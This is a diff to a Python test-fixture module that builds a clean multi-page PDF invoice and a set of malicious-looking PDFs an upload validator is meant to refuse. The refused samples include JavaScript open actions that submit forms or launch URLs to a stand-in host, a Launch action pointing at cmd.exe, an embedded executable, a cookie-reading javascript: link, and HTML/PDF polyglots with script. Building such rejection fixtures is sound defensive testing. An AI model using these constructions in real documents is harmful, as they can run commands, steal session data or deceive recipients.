@@ -1,5 +1,5 @@
-"""Real files of every allowed format and of refused ones, made with Pillow and the standard
-library (no hand-written magic bytes)."""
+"""Real files of every allowed format and of refused ones, made with Pillow, pypdf and the
+standard library (no hand-written magic bytes)."""
 
 from __future__ import annotations
 
@@ -9,6 +9,16 @@ from functools import cache
 from pathlib import Path
 
 from PIL import Image, ImageDraw
+from pypdf import PdfWriter
+from pypdf.generic import (
+    ArrayObject,
+    DecodedStreamObject,
+    DictionaryObject,
+    NameObject,
+    NumberObject,
+    PdfObject,
+    TextStringObject,
+)
 
 
 def _picture(mode: str = "RGB") -> Image.Image:
@@ -80,3 +90,131 @@ def refused_files() -> dict[str, bytes]:
 
 def truncated(content: bytes) -> bytes:
     return content[: len(content) // 2]
+
+
+# --- PDFs: a clean multi-page document, and documents that must be refused -----------------------
+
+
+def _pdf_writer(pages: int) -> PdfWriter:
+    """A plain document: ``pages`` A4 pages, each with a line of text in a standard font."""
+    writer = PdfWriter()
+    font = writer._add_object(
+        DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Font"),
+                NameObject("/Subtype"): NameObject("/Type1"),
+                NameObject("/BaseFont"): NameObject("/Helvetica"),
+            }
+        )
+    )
+    for number in range(1, pages + 1):
+        page = writer.add_blank_page(width=595, height=842)
+        text = DecodedStreamObject()
+        text.set_data(f"BT /F1 18 Tf 72 760 Td (Faktura VAT - strona {number}) Tj ET".encode())
+        page[NameObject("/Contents")] = writer._add_object(text)
+        page[NameObject("/Resources")] = DictionaryObject(
+            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
+        )
+    return writer
+
+
+def _written(writer: PdfWriter) -> bytes:
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{key}"): value for key, value in entries.items()}}
+    )
+
+
+def _link(action: DictionaryObject) -> DictionaryObject:
+    return DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)]),
+            NameObject("/A"): action,
+        }
+    )
+
+
+def clean_pdf(pages: int = 3) -> bytes:
+    """A multi-page document with nothing active in it (and an ordinary web link)."""
+    writer = _pdf_writer(pages)
+    link = _link(_action("/URI", URI=TextStringObject("https://allegro.pl/pomoc")))
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    return _written(writer)
+
+
+def _javascript_in_names() -> bytes:
+    writer = _pdf_writer(2)
+    script = _action("/JavaScript", JS=TextStringObject("app.alert('Zaplac na konto 12 3456');"))
+    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(script)])})
+    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
+    return _written(writer)
+
+
+def _javascript_on_open() -> bytes:
+    writer = _pdf_writer(2)
+    script = _action("/JavaScript", JS=TextStringObject("this.submitForm('https://example.invalid/x');"))
+    writer.root_object[NameObject("/OpenAction")] = writer._add_object(script)
+    return _written(writer)
+
+
+def _launch_link() -> bytes:
+    writer = _pdf_writer(2)
+    launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))
+    writer.pages[1][NameObject("/Annots")] = ArrayObject([writer._add_object(_link(launch))])
+    return _written(writer)
+
+
+def _embedded_file() -> bytes:
+    writer = _pdf_writer(1)
+    writer.add_attachment("faktura.exe", windows_executable()[:4096])
+    return _written(writer)
+
+
+def _javascript_link() -> bytes:
+    writer = _pdf_writer(1)
+    link = _link(_action("/URI", URI=TextStringObject("javascript:alert(document.cookie)")))
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+    return _written(writer)
+
+
+def _javascript_when_a_page_opens() -> bytes:
+    writer = _pdf_writer(2)
+    script = _action("/JavaScript", JS=TextStringObject("app.launchURL('https://example.invalid');"))
+    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
+    return _written(writer)
+
+
+def _xfa_form() -> bytes:
+    writer = _pdf_writer(1)
+    xfa = DecodedStreamObject()
+    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
+    )
+    return _written(writer)
+
+
+@cache
+def refused_pdfs() -> dict[str, bytes]:
+    """PDF-looking files that must be refused, by what makes them dangerous or fake."""
+    return {
+        "javascript in the names tree": _javascript_in_names(),
+        "javascript as the open action": _javascript_on_open(),
+        "javascript when a page opens": _javascript_when_a_page_opens(),
+        "javascript link": _javascript_link(),
+        "launch action in a link": _launch_link(),
+        "embedded executable": _embedded_file(),
+        "xfa form": _xfa_form(),
+        "garbage between header and end marker": b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
+        "html with a pdf header": (
+            b"%PDF-1.4\n<!doctype html><html><body><script>fetch('/messaging/threads')</script></body></html>\n%%EOF\n"
+        ),
+        "html after the end marker": clean_pdf(1) + b"<html><script>alert(1)</script></html>\n",
+    }
